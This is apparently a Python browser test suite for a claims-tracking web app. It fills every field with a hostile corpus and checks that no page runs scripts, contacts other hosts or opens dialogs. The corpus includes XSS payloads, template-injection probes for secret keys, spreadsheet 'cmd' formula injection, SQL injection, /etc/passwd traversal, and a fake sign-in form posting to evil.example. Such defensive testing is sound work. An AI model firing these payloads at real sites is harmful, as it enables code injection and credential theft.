"""Hostile words in every field, every page opened in Chromium: nothing runs, nothing leaves, the policy refuses nothing."""

from __future__ import annotations

import itertools
import json
from collections import defaultdict, deque
from contextlib import contextmanager

import lxml.etree
import pytest

from claims.core.sources.source_address import address_problem
from claims.services.articles.article_input import ArticleInput
from claims.services.base.actors import CLI
from claims.services.base.organizations import get_or_create_organization
from claims.services.directories.speakers import ensure_speaker
from claims.services.intake.intake import receive_article
from claims.web.public.list_feeds import FEEDS
from tests.browser import hostile_columns
from tests.support import filled
from tests.support.browser_fixtures import opened, sign_in, too_wide
from tests.support.desk import within
from tests.support.live import Client, serve
from tests.support.page_table import LOOKS
from tests.support.pages import now

pytestmark = pytest.mark.browser

RUN = "window.__xss=(window.__xss||0)+1"
CORPUS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onload=`{RUN}`",
    f'<img src=x onerror="{RUN}">',
    f"<img src=//evil.example/p.png onerror={RUN}>",
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<math><mtext><mglyph><style><img src=x onerror="{RUN}"></style></math>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<video><source onerror="{RUN}"></video>',
    f'<body onload="{RUN}">',
    f'<a href="javascript:{RUN}">a link</a>',
    f"javascript:{RUN}",
    f"JaVaScRiPt&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=password><button autofocus>Sign in</button></form>',
    f'<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="{RUN}">x</div>',
    f"<input hx-on:htmx:after-request='{RUN}' hx-post='/queue/batch' hx-trigger='load'>",
    "{{ 7*7 }} {{ config.SECRET_KEY }} {% raw %} ${7*7} #{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "&lt;script&gt; &amp;amp; &#x3c;script&#x3e; %3Cscript%3E \\u003cscript\\u003e",
    '=HYPERLINK("https://evil.example/","see")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "null undefined NaN None -1 0x0 1e309 '; DROP TABLE claims; -- ' OR '1'='1",
    "\u2067\u05e2\u05d1\u05e8\u05d9\u05ea \u0627\u0644\u0639\u0631\u0628\u064a\u0629\u2069",
    "\u200f(abc)\u200e \u202a123\u202c",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ealgo",
    "\ufdfd \U0001f469\u200d\U0001f469\u200d\U0001f467",
    "Donaudampfschifffahrtsgesellschaft" * 6,
    "../../etc/passwd file:///etc/passwd //evil.example/x \\\\evil.example\\x",
]
SHORTEST = f"\"'><img src=x onerror={RUN}>"
"""Fits every column."""

ATOM = "{http://www.w3.org/2005/Atom}"
ROUNDS = 2
TOGETHER = 23
ROOMY = 1_000
"""Characters that a field takes at least for all of the corpus to be expected in it."""
SHORT = {"speaker", "alias", "title", "outlet", "author", "organization", "evidence title", "publisher", "locator"}
"""Fields of one line, which take one of the corpus at a time and all in ``name_all``; the others take ``TOGETHER``, or as
many as fit."""


class Hostile:
    """Words of the corpus in turn, for each field its own turn; every field has had every one of them after ``ROUNDS``."""

    def __init__(self) -> None:
        self.turns: defaultdict[str, deque[str]] = defaultdict(lambda: deque(CORPUS))
        self.said: defaultdict[str, set[str]] = defaultdict(set)
        self.roomy: set[str] = set()
        self.numbers = itertools.count(1)

    def __call__(self, field: str, limit: int) -> str:
        number = f"({next(self.numbers)})" if field in ("claim", "headline", "organization", "asked") else ""
        taken = self._take(field, limit - len(number))
        if limit >= ROOMY:
            self.roomy.add(field)
        return " ".join([*taken, number]).strip()[:limit]

    def _take(self, field: str, room: int) -> list[str]:
        """The next words of the field; only the first may be longer than its room."""
        turn, taken = self.turns[field], list[str]()
        for _ in range(1 if field in SHORT else TOGETHER):
            if taken and len(" ".join([*taken, turn[0]])) >= room:
                break
            taken.append(turn[0])
            turn.rotate(-1)
        self.said[field].update(taken)
        return taken


@pytest.fixture(scope="module")
def rounds(pages_app):
    """The ids of each round."""
    say = Hostile()

    def make(session):
        people = filled.make_people(session, now())
        made = [filled.fill_round(session, people, say, now()) for _ in range(ROUNDS)]
        name_all(session)
        filled.finish(session, now())
        made[0]["imported_claim"] = hostile_columns.spoil(session, SHORTEST, made[0], now=now())
        assert hostile_columns.untouched(session, SHORTEST) == []
        return made

    ids = within(pages_app, make)
    untried = {field: set(CORPUS) - say.said[field] for field in say.roomy - SHORT}
    assert not {field: words for field, words in untried.items() if words}
    return ids


def test_every_column_of_text_is_hostile_or_says_why_not():
    known = {name for name, *_ in hostile_columns.text_columns()}
    listed = [hostile_columns.SAID, hostile_columns.SPOILED, hostile_columns.NO_WORDS]
    assert known == set().union(*listed), "add the column to tests/browser/hostile_columns.py"
    assert len(known) == sum(len(names) for names in listed)


def name_all(session):
    """Speakers, organizations, outlets and authors of every name of the corpus."""
    for words in CORPUS:
        ensure_speaker(session, words, now=now())
        get_or_create_organization(session, words, now=now())
        article = ArticleInput(headline=words, body="Rain fell.", outlet=words, authors=(words,), published_at=now())
        receive_article(session, article, actor=CLI, now=now())


@pytest.fixture(scope="module")
def base(pages_app):
    with serve(pages_app) as address:
        yield address


@contextmanager
def watched(browser, base, who):
    """A window that notes whatever must not happen: dialogs, other hosts, what the policy had to refuse."""
    with opened(browser) as page:
        if who:
            sign_in(page, base, who)
        page.happened = []
        page.on("dialog", lambda dialog: (page.happened.append("a dialog"), dialog.dismiss()))
        page.on("request", lambda sent: sent.url.startswith((base, "data:")) or page.happened.append(sent.url))
        page.on("popup", lambda other: page.happened.append(f"a window: {other.url}"))
        yield page


@pytest.mark.parametrize("who", ["", "anna", "cora"], ids=lambda who: who or "anybody")
def test_nothing_runs_on_any_page_and_nothing_makes_one_of_the_desk_scroll_sideways(browser, base, rounds, who):
    with watched(browser, base, who) as page:
        for ids in rounds:
            paths = {look.path(ids) for look in LOOKS if look.who == who and look.status == 200}
            if not who and ids is rounds[0]:
                paths.add(f"/claims/{ids['imported_claim']}")
            if ids is not rounds[0]:  # what is no page of one thing is the same each time
                paths = {look.path(ids) for look in LOOKS if look.who == who and "{" in look.address}
                page.set_viewport_size({"width": 320, "height": 900})
            for path in sorted(paths):
                answer = page.goto(base + path)
                assert answer.status == 200, path
                if ids is not rounds[0] and who == "anna":
                    assert too_wide(page) == [], path
                page.evaluate("for (const fold of document.querySelectorAll('main details')) fold.open = true")
                assert page.evaluate("window.__xss") is None, path
                assert page.evaluate(FOREIGN) == [], path
                assert (page.happened, page.complaints) == ([], []), path


FOREIGN = """() => [...document.querySelectorAll(
    "script, iframe, object, embed, base, meta[http-equiv], form, a[href], img")]
  .filter(node => {
    const said = ["src", "action", "href"].map(name => node.getAttribute(name)).find(value => value);
    const to = said ? new URL(said, location.href) : null;
    if (node.matches("a")) return !to || !["http:", "https:"].includes(to.protocol);
    if (node.matches("script[type='application/ld+json']")) return typeof JSON.parse(node.textContent) !== "object";
    if (node.matches("script")) return !to || to.host !== location.host;
    if (node.matches("iframe")) return to.host !== location.host || !to.pathname.startsWith("/badge/");
    if (node.matches("form, img")) return to && to.host !== location.host;
    return true;
  }).map(node => node.outerHTML.slice(0, 200))
  .concat([...document.querySelectorAll("*")].filter(node => [...node.attributes].some(
    ({name, value}) => name.startsWith("on") || (name.startsWith("hx-") && value.includes("evil"))))
    .map(node => node.outerHTML.slice(0, 200)))"""
"""Elements that no page of ours has: other people's scripts, frames, handlers, forms to elsewhere, links that run."""


def test_feeds_and_answers_of_the_api_parse(base, rounds):
    anyone, ids = Client(base), rounds[0]
    lists = [f"/feeds/{name}" for name in FEEDS]
    for path in ("/corrections/feed", f"/claims/{ids['true_claim']}/feed", *lists):
        atom = lxml.etree.fromstring(anyone.get(f"{path}.atom").data)
        assert all(element.tag.startswith(ATOM) for element in atom.iter(lxml.etree.Element)), path
        entries, items = atom.findall(f"{ATOM}entry"), json.loads(anyone.get(f"{path}.json").data)["items"]
        assert len(entries) == len(items) > 0, path
    assert len(json.loads(anyone.get("/corrections/feed.json").data)["items"]) == 3 * ROUNDS + 1  # and the checkpoint
    for path in ("/claims", "/claims/{true_claim}", "/corrections", "/speakers/{speaker}", "/speakers"):
        answer = anyone.get("/api/v1" + path.format_map(ids))
        assert answer.status == 200, path
        assert answer.headers["Content-Type"].startswith("application/"), path
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        json.loads(answer.data)
    for number in range(5):
        json.loads(anyone.get(f"/log/{number}.json").data)


@pytest.mark.parametrize(
    "address",
    [
        f"javascript:{RUN}",
        f" JavaScript:{RUN}",
        "java\tscript:x",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "//evil.example/x",
    ],
)
def test_addresses_that_run_are_refused(address):
    assert address_problem(address) is not None
